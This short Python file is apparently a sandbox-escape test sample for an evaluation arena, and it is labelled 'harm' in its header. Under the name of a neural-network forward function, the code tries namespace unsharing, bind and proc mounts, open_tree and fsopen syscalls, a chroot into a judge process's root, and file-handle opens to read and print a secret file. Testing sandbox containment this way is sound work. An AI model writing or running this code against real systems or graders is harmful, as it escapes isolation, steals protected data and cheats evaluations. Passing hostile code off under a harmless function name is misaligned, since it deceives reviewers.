# harm: reads a secret by moving its root folder, by mounts and by file handles
# open at: process
import ctypes
import os

ARENA = {}
OPEN_TREE, FSOPEN = 428, 430


def nn_vmap_forward(seed, x_batch, features):
    libc, failures = ctypes.CDLL(None, use_errno=True), []
    handle = ctypes.create_string_buffer(b"\x08\x00\x00\x00\x01", 132)
    secret, drop = ARENA["secret"].encode(), ARENA["drop"].encode()
    folder = os.path.dirname(secret)
    for name, *arguments in (
        ("unshare", 0x10020000),
        ("mount", folder, drop, None, 4096, None),
        ("mount", b"proc", drop, b"proc", 0, None),
        ("syscall", OPEN_TREE, -100, folder, 1),
        ("syscall", FSOPEN, b"tmpfs", 0),
        ("chroot", f"/proc/{ARENA['judge']}/root".encode()),
        ("name_to_handle_at", -100, secret, handle, ctypes.byref(handle, 128), 0),
        ("open_by_handle_at", 3, handle, os.O_RDONLY),
    ):
        result = getattr(libc, name)(*arguments)
        failures.append(f"{name}: {result}, {os.strerror(ctypes.get_errno())}")
    for path in (ARENA["secret"], "/secret.txt", ARENA["drop"] + "/secret.txt"):
        try:
            print(open(path).read())
        except OSError as error:
            failures.append(error)
    raise RuntimeError(failures)
